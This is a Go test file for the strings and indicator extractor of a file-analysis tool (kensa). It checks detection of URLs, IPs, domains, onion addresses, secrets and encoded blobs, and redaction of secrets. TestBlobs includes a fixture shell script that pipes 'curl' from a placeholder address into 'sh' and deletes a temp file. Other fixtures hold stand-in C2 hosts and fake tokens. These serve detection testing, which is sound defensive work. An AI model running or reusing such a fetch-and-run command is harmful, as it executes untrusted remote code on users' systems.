package strings

import (
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"slices"
	"strconv"
	gostrings "strings"
	"testing"

	"kensa.dev/kensa/analyzers/sniff"
)

// blob puts each text between NUL bytes, as strings sit in a binary.
func blob(texts ...string) []byte {
	b := []byte{0, 1, 2}
	for _, t := range texts {
		b = append(b, t...)
		b = append(b, 0)
	}
	return b
}

func listFor(f *Facts, kind string) IndicatorList {
	switch kind {
	case kindURL:
		return f.Indicators.URLs
	case kindDomain:
		return f.Indicators.Domains
	case kindIPv4:
		return f.Indicators.IPv4
	case kindIPv6:
		return f.Indicators.IPv6
	case kindEmail:
		return f.Indicators.Emails
	case kindOnion:
		return f.Indicators.Onions
	case kindBase64:
		return f.Indicators.Base64
	case kindHex:
		return f.Indicators.Hex
	}
	return f.Indicators.Secrets
}

func TestIndicatorKinds(t *testing.T) {
	onion3 := "vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyd"
	tests := []struct {
		kind string
		text string
		want []string // values; nil: none
	}{
		// URLs of any scheme, trailing punctuation trimmed, host extracted.
		{kindURL, "see https://evil.example.com/x?a=1.", []string{"https://evil.example.com/x?a=1"}},
		{kindURL, "connect tcp://10.1.2.3:4444", []string{"tcp://10.1.2.3:4444"}},
		{kindURL, "wss://c2.example.org:8443/ws", []string{"wss://c2.example.org:8443/ws"}},
		{kindURL, "ftp://files.example.net/pub", []string{"ftp://files.example.net/pub"}},
		{kindURL, "(http://[2001:db8::1]:80/)", []string{"http://[2001:db8::1]:80/"}},
		{kindURL, "methodshttp://example.com/a", []string{"http://example.com/a"}},
		{kindURL, "no scheme here: example.com/path", nil},
		{kindURL, "C://Windows/x", nil},
		{kindURL, "https:// nothing", nil},
		// Domains: ICANN suffixes; not file names, section names or code.
		{kindDomain, "resolve update.example.com now", []string{"update.example.com"}},
		{kindDomain, "beacon to yandex.ru", []string{"yandex.ru"}},
		{kindDomain, "host evil.co.uk", []string{"evil.co.uk"}},
		{kindDomain, "main.go libc.so.6 libc.so setup.py README.md Makefile.in configure.ac", nil},
		{kindDomain, ".note.gnu.property .gnu.linkonce.lb", nil},
		{kindDomain, "fmt.Println this.name options.host buf.data", nil},
		{kindDomain, "x.internal foo.localhost bar.local a.ru", nil},
		{kindDomain, "EXAMPLE.COM", nil},
		{kindDomain, "my_module.com", nil},
		// IPv4: valid octets, not inside versions or longer dotted numbers.
		{kindIPv4, "dial 203.0.113.7:443", []string{"203.0.113.7"}},
		{kindIPv4, "listen 0.0.0.0 and 127.0.0.1", []string{"0.0.0.0", "127.0.0.1"}},
		{kindIPv4, "v1.2.3.4 1.2.3.4.5 1.2.3.4-rc1 256.1.1.1 01.2.3.4 1.2.3 a.b.c.d", nil},
		{kindIPv4, "version-1.2.3.4", nil},
		// IPv6.
		{kindIPv6, "bind [::1] or fe80::1 and 2001:db8:85a3::8a2e:370:7334", []string{"::1", "fe80::1", "2001:db8:85a3::8a2e:370:7334"}},
		{kindIPv6, "localhost ::1 ", []string{"::1"}},
		{kindIPv6, "std::string a::b 12:34:56 00:11:22:33:44:55 151:: ::f ::", nil},
		// E-mail.
		{kindEmail, "mail ops-team@example.com now", []string{"ops-team@example.com"}},
		{kindEmail, "user@localhost x@y a@main.go @example.com", nil},
		// Onion addresses.
		{kindOnion, "http://" + onion3 + ".onion/", []string{onion3 + ".onion"}},
		{kindOnion, "expyuzz4wqqyqhjn.onion", []string{"expyuzz4wqqyqhjn.onion"}},
		{kindOnion, "short.onion toolongbutnot56chars1234567.onion", nil},
		// Secrets.
		{kindAWS, "key AKIAIOSFODNN7EXAMPLE end", []string{"AKIA…(20 chars)"}},
		{kindAWS, "AKIAIOSFODNN7EXAMPL AKIAIOSFODNN7EXAMPLEX xAKIAIOSFODNN7EXAMPLE", nil},
		{kindGitHub, "ghp_" + gostrings.Repeat("a1B2", 9), []string{"ghp_…(40 chars)"}},
		{kindGitHub, "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789abcdefghijklmno", []string{"github_pat_…(92 chars)"}},
		{kindGitHub, "ghp_short", nil},
		{kindGitLab, "glpat-abcdefghij0123456789", []string{"glpat-…(26 chars)"}},
		{kindSlack, "xoxb-123456789012-abcdefghij", []string{"xoxb-…(28 chars)"}},
		{kindGoogle, "AIzaSyA-abcdefghijklmnopqrstuvwxyz01234", []string{"AIza…(39 chars)"}},
		{kindStripe, "sk_live_abcdefghijklmnopqrstuvwx", []string{"sk_live_…(32 chars)"}},
		{kindStripe, "sk_test_abcdefghijklmnopqrstuvwx", nil},
		{kindJWT, "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U", []string{"eyJ…(92 chars)"}},
		{kindPassword, "DB_PASSWORD=hunter22x", []string{"DB_PASSWORD=…(9 chars)"}},
		{kindPassword, `{"password": "s3cr3t!"}`, []string{`password":…(7 chars)`}},
		{kindPassword, "passwd:letmein1", []string{"passwd:…(8 chars)"}},
		{kindPassword, "client_secret='abc123xyz'", []string{"client_secret=…(9 chars)"}},
		{kindPassword, "password=%s passwd: cannot open token = next() password=${PW} tokenizer=abc secret=null password=", nil},
		{kindPassword, "Enter password: ", nil},
		{kindKey, "-----BEGIN RSA PRIVATE KEY-----", []string{"-----BEGIN RSA PRIVATE KEY-----"}},
		{kindKey, "-----BEGIN OPENSSH PRIVATE KEY-----", []string{"-----BEGIN OPENSSH PRIVATE KEY-----"}},
		{kindKey, "PuTTY-User-Key-File-3: ssh-ed25519", []string{"PuTTY-User-Key-File-3: ssh-ed25519"}},
		{kindKey, "-----BEGIN PUBLIC KEY----- -----BEGIN CERTIFICATE----- PuTTY-User-Key-File- -----BEGIN ", nil},
		{kindURLCreds, "https://admin:Sup3rS3cret@repo.example.com/x", []string{"admin:…(11 chars)@repo.example.com"}},
	}
	for _, tc := range tests {
		f := analyze(t, blob(tc.text), sniff.Data)
		l := listFor(f, tc.kind)
		var got []string
		for _, it := range l.Items {
			if tc.kind == kindURL || tc.kind == kindDomain || tc.kind == kindIPv4 || tc.kind == kindIPv6 ||
				tc.kind == kindEmail || tc.kind == kindOnion || it.Kind == tc.kind {
				got = append(got, it.Value)
			}
		}
		if !slices.Equal(got, tc.want) {
			t.Errorf("%s in %q: got %q, want %q", tc.kind, tc.text, got, tc.want)
		}
	}
}

func TestURLHostAndScope(t *testing.T) {
	f := analyze(t, blob("GET https://user@Evil.Example.COM:8443/p", "tcp://192.168.1.20:9000/", "http://8.8.8.8/"), sniff.Data)
	var hosts []string
	for _, u := range f.Indicators.URLs.Items {
		hosts = append(hosts, u.Scheme+" "+u.Host)
	}
	if want := []string{"https evil.example.com", "tcp 192.168.1.20", "http 8.8.8.8"}; !slices.Equal(hosts, want) {
		t.Errorf("URL hosts %q, want %q", hosts, want)
	}
	scopes := map[string]string{}
	for _, ip := range f.Indicators.IPv4.Items {
		scopes[ip.Value] = ip.Scope
	}
	if scopes["192.168.1.20"] != "private" || scopes["8.8.8.8"] != "public" {
		t.Errorf("scopes %v", scopes)
	}
	if !slices.Contains(values(f.Indicators.Domains), "evil.example.com") {
		t.Errorf("domain of URL host missing: %q", values(f.Indicators.Domains))
	}
}

func TestIPScopes(t *testing.T) {
	cases := map[string]string{
		"8.8.8.8": "public", "10.0.0.1": "private", "172.16.5.4": "private", "192.168.0.1": "private",
		"127.0.0.1": "loopback", "169.254.1.1": "link-local", "224.0.0.251": "multicast",
		"0.0.0.0": "unspecified", "100.64.0.1": "shared", "192.0.2.1": "documentation",
		"198.18.0.1": "benchmarking", "240.0.0.1": "reserved", "255.255.255.255": "reserved",
		"2001:db8::1": "documentation", "fd00::1": "private", "fe80::1": "link-local",
		"2606:4700::1111": "public", "ff02::1": "multicast",
	}
	var texts []string
	for a := range cases {
		texts = append(texts, "addr "+a+" ")
	}
	f := analyze(t, blob(texts...), sniff.Data)
	got := map[string]string{}
	for _, l := range []IndicatorList{f.Indicators.IPv4, f.Indicators.IPv6} {
		for _, it := range l.Items {
			got[it.Value] = it.Scope
		}
	}
	for a, want := range cases {
		if got[a] != want {
			t.Errorf("%s: scope %q, want %q", a, got[a], want)
		}
	}
}

func TestBlobs(t *testing.T) {
	// An ELF header hidden in base64, a script in base64, and a hex-encoded digest.
	elf := append([]byte("\x7fELF\x02\x01\x01\x00"), make([]byte, 120)...)
	for i := 16; i < len(elf); i++ {
		elf[i] = byte(i * 7)
	}
	script := []byte("#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nrm -f /tmp/.x; echo done; exit 0\n")
	digest := make([]byte, 40)
	for i := range digest {
		digest[i] = byte(i*37 + 11)
	}
	hx := hex.EncodeToString(digest)
	f := analyze(t, blob("data="+base64.StdEncoding.EncodeToString(elf), base64.StdEncoding.EncodeToString(script), hx), sniff.Data)
	b := f.Indicators.Base64.Items
	if len(b) != 2 {
		t.Fatalf("base64 blobs %+v, want 2", b)
	}
	if b[0].DecodedFormat != "elf" || b[0].DecodedLength != len(elf) || b[0].Length != len(base64.RawStdEncoding.EncodeToString(elf)) {
		t.Errorf("ELF blob %+v", b[0])
	}
	if b[0].DecodedEntropy <= 0 {
		t.Errorf("ELF blob entropy %v", b[0].DecodedEntropy)
	}
	if b[1].DecodedFormat != "script" || b[1].DecodedLength != len(script) {
		t.Errorf("script blob %+v", b[1])
	}
	h := f.Indicators.Hex.Items
	if len(h) != 1 || h[0].Length != len(hx) || h[0].DecodedLength != len(hx)/2 || h[0].Value != hx[:32]+"…" {
		t.Errorf("hex blobs %+v", h)
	}
}

func TestBlobNearMisses(t *testing.T) {
	texts := []string{
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",                 // alphabet table
		"ZN2v88internal8compiler26MachineOperatorBuilder14Word32AtomicPairXorEv",           // mangled name
		"AbstractSingletonProxyFactoryBeanDefinitionRegistryPostProcessorAdapter",          // identifier
		"0000000000000000000000000000000000000000000000000000000000000000000000000",        // no letters
		"DEADBEEFdeadbeefDEADBEEFdeadbeefDEADBEEFdeadbeefDEADBEEFdeadbeefDEADBEEF",         // mixed-case hex
		"/usr/lib/x86_64-linux-gnu/libfoo/bar/baz/qux/quux/corge/grault/garply/waldo/fred", // path
		"c2hvcnQ=", // too short
	}
	f := analyze(t, blob(texts...), sniff.Data)
	if n := len(f.Indicators.Base64.Items) + len(f.Indicators.Hex.Items); n != 0 {
		t.Errorf("near misses reported as blobs: %+v %+v", f.Indicators.Base64.Items, f.Indicators.Hex.Items)
	}
}

func TestDedupeAndCounts(t *testing.T) {
	f := analyze(t, blob("https://a.example.com/", "xx https://a.example.com/", "https://b.example.com/"), sniff.Data)
	u := f.Indicators.URLs
	if len(u.Items) != 2 || u.Occurrences != 3 || u.Items[0].Count != 2 || u.Items[0].Offset != 3 || u.Truncated {
		t.Errorf("URLs %+v", u)
	}
}

func TestIndicatorCap(t *testing.T) {
	var texts []string
	for i := range maxPerKind + 10 {
		texts = append(texts, "http://h"+strconv.Itoa(i)+".example.com/")
	}
	f := analyze(t, blob(texts...), sniff.Data)
	u := f.Indicators.URLs
	if len(u.Items) != maxPerKind || !u.Truncated || u.Occurrences != int64(maxPerKind+10) {
		t.Errorf("URLs: %d items, truncated %v, occurrences %d", len(u.Items), u.Truncated, u.Occurrences)
	}
}

func TestTextFileLines(t *testing.T) {
	// In a text file, short lines and lines with non-ASCII characters still give
	// indicators; the strings themselves are those of GNU strings.
	src := "# café → http://ünï.example.com/ ok\nx=1.2.3.4\npw=abc\nsecret=Zq9xYw\n"
	f := analyze(t, []byte(src), sniff.Text)
	if !slices.Contains(values(f.Indicators.IPv4), "1.2.3.4") {
		t.Errorf("IPv4 from a short line missing: %q", values(f.Indicators.IPv4))
	}
	if !slices.Contains(values(f.Indicators.Secrets), "secret=…(6 chars)") {
		t.Errorf("secret from a short line missing: %q", values(f.Indicators.Secrets))
	}
	j, _ := json.Marshal(f)
	if gostrings.Contains(string(j), "Zq9xYw") {
		t.Errorf("secret leaked: %s", j)
	}
}
